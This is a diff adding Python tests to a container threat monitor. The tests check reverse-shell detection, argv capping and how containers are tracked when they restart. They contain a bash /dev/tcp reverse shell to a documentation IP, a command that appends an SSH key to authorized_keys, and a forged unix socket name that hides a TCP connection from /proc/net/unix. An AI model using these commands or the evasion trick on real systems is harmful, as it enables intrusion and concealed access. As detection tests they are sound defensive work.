@@ -544,3 +544,163 @@ def test_padding_does_not_hide_a_payload() -> None:
     keys = "x" * 50_000 + "; echo ssh-ed25519 AAAA >> /home/code/.ssh/authorized_keys"
     found = {t.rule_id for t in rules.cmdline_threats(1, ["sh", "-c", keys], "/bin/sh")}
     assert "persist.authorized-keys" in found
+
+
+# --------------------------------------------------------------------------- socket identity
+def forged_unix_name(inode: int) -> bytes:
+    """An abstract unix socket name that prints, in /proc/net/unix, a line of its own
+    claiming `inode` is a unix socket (the name is printed raw, newline included)."""
+    return b"\0x\n0000000000000000: 00000002 00000000 00010000 0001 01 " + str(inode).encode()
+
+
+def test_a_forged_unix_socket_name_does_not_hide_a_tcp_connection() -> None:
+    """The behavioural rules once ruled sockets out through /proc/<pid>/net/unix, where a
+    socket's name is the container's to choose: a newline and a forged line in an abstract
+    name made a reverse shell's TCP socket look like a unix socket. The kernel's protocol
+    name and the inet tables decide now."""
+    import os
+    import socket
+
+    from coi_tui.monitor import behaviour, procfs
+
+    server = socket.create_server(("127.0.0.1", 0))
+    client = socket.create_connection(server.getsockname())
+    peer, _ = server.accept()
+    forged = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    try:
+        fd = procfs.read_fd(os.getpid(), client.fileno())
+        assert fd is not None and fd.kind == "socket"
+        inode = fd.key[1]
+        forged.bind(forged_unix_name(inode))
+        forged.listen(1)
+        # the attack is real: the unix table now has a line naming the TCP socket's inode
+        table = procfs.read_text(f"/proc/{os.getpid()}/net/unix").splitlines()
+        assert any(line.split()[6:7] == [str(inode)] for line in table[1:]), table[-3:]
+
+        assert procfs.socket_protocol(os.getpid(), client.fileno(), inode) == "TCP"
+        view = behaviour.ContainerView(os.getpid(), [os.getpid()])
+        conn = view.connection(os.getpid(), fd)
+        assert conn is not None and conn.proto == "tcp" and conn.state == "ESTABLISHED"
+        assert conn.remote_port == server.getsockname()[1]
+        assert inode not in view.known_local
+        # a real unix socket is ruled out by the kernel's word, and remembered
+        unix_fd = procfs.read_fd(os.getpid(), forged.fileno())
+        assert unix_fd is not None
+        assert view.connection(os.getpid(), unix_fd) is None
+        assert unix_fd.key[1] in view.known_local
+        # an fd that no longer holds the inode asked about answers nothing
+        assert procfs.socket_protocol(os.getpid(), client.fileno(), unix_fd.key[1]) == ""
+    finally:
+        for sock in (client, peer, server, forged):
+            sock.close()
+
+
+def test_recent_execs_are_capped_and_rules_never_hold_back_intake(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Watched.recent kept the whole argv of 1024 execs (a container chooses megabytes per
+    exec); it keeps at most 64 arguments and 4 KiB per exec now. Command-line rules of a
+    flood of huge execs run behind the behavioural check of each exec, a bounded time per
+    loop turn, so a reverse shell's exec is judged at intake whatever came before it."""
+    from coi_tui.monitor import daemon as daemon_mod
+    from coi_tui.monitor.daemon import RECENT_ARGS, RECENT_BYTES, Daemon, Watched, clip_argv
+
+    assert clip_argv(["a"] * 500) == ["a"] * RECENT_ARGS
+    clipped = clip_argv(["sh", "-c", ">" * 120_000, "x"])
+    assert sum(len(a) for a in clipped) <= RECENT_BYTES and clipped[:2] == ["sh", "-c"]
+
+    judged: list[set[int] | None] = []
+    monkeypatch.setattr(
+        daemon_mod.behaviour, "analyse", lambda view, only=None: judged.append(only) or []
+    )
+    daemon = Daemon.__new__(Daemon)
+    daemon.config = MonitorConfig()
+    daemon.timers, daemon.pending = [], set()
+    daemon.rule_queue, daemon.rules_skipped = daemon_mod.deque(), 0
+    found: list[rules.Threat] = []
+    daemon.respond = lambda watched, threats, now: found.extend(threats)  # type: ignore[method-assign]
+    watched = Watched("c", 1, "pid:[1]", "", "", 0, Path("/"), "uuid-1")
+    daemon.watched = {"c": watched}
+    huge = ["sh", "-c", ">" * 120_000]
+    for pid in range(100, 140):
+        daemon.on_exec(watched, pid, huge, time.monotonic(), 1)
+    shell = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
+    daemon.on_exec(watched, 999, shell, time.monotonic(), 1)
+    assert judged[-1] == {999}, "the last exec was judged by behaviour at intake"
+    assert len(daemon.rule_queue) == 41
+    assert max(sum(len(a) for a in e[3]) for e in watched.recent) <= RECENT_BYTES
+    started = time.monotonic()
+    daemon.run_rules(budget=0.05)
+    assert time.monotonic() - started < 1.0 and 0 < len(daemon.rule_queue) < 41
+    while daemon.rule_queue:
+        daemon.run_rules()
+    assert "proc.dev-tcp" in {t.rule_id for t in found}
+
+
+class FakeInstance:
+    def __init__(self, name: str, uuid: str, status: str = "Running") -> None:
+        self.name, self.status = name, status
+        self.config = {"volatile.uuid": uuid}
+
+
+def test_a_slot_started_again_under_the_same_name_is_watched_anew(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The daemon tracked containers by name: a slot killed and started again within a
+    refresh kept its predecessor's record (marked killed, its events ignored), so the new
+    container went unwatched, and threats were de-duplicated against the old one's. A
+    different instance id or a dead init means another container: forget, watch again; the
+    delayed kill acts only on the container it judged."""
+    import os
+    import types
+
+    from coi_tui.monitor import daemon as daemon_mod
+    from coi_tui.monitor.daemon import Daemon, Responder
+
+    listing = [FakeInstance("c", "uuid-1")]
+    init = [os.getpid()]
+    killed: list[str] = []
+    daemon = Daemon.__new__(Daemon)
+    daemon.config = MonitorConfig()
+    daemon.home = Path("/nonexistent-coi-home")
+    daemon.watched, daemon.by_ns, daemon.by_ifindex, daemon.by_ip = {}, {}, {}, {}
+    daemon.timers, daemon.pending, daemon.capture_ctl = [], set(), -1
+    daemon.rule_queue = daemon_mod.deque()
+    daemon.incus = types.SimpleNamespace(
+        list_instances=lambda prefix: listing,
+        instance_state=lambda name: {"pid": init[0], "network": {}},
+        get_instance=lambda name: listing[0],
+    )
+    daemon.nft = types.SimpleNamespace(add=lambda iface: None, discard=lambda iface: None)
+    daemon.broadcaster = types.SimpleNamespace(publish_event=lambda event: None)
+    daemon.log = lambda message: None  # type: ignore[method-assign]
+    daemon.scan = lambda watched, full, nsmap=None: None  # type: ignore[method-assign]
+    daemon.kill = killed.append  # type: ignore[method-assign]
+    monkeypatch.setattr(daemon_mod, "tag_for", lambda home: "abc123")
+
+    daemon.refresh()
+    first = daemon.watched["c"]
+    assert first.uuid == "uuid-1" and daemon.by_ns[first.pidns] is first
+    first.status = "Killed"  # the monitor killed it; its kill worker is still busy
+    daemon.refresh()
+    assert daemon.watched["c"] is first, "the same container: still the same record"
+
+    listing[0] = FakeInstance("c", "uuid-2")  # the slot started again before a refresh
+    daemon.refresh()
+    second = daemon.watched["c"]
+    assert second is not first and second.uuid == "uuid-2" and second.status == "Running"
+    assert daemon.by_ns[second.pidns] is second
+    # the first container's delayed kill must not hit its successor
+    responder = Responder(daemon)
+    responder._incus_action(first, "kill")
+    assert killed == []
+    responder._incus_action(second, "kill")
+    assert killed == ["c"]
+    # de-duplication is per container: the successor's first threat is acted on
+    assert first.identity != second.identity
+    responder.pool.shutdown()
+
+    # the same instance restarted (same id, another init): watched anew too
+    second.init_pid = 2**22 + 12345  # no such process
+    daemon.refresh()
+    assert daemon.watched["c"] is not second and daemon.watched["c"].uuid == "uuid-2"
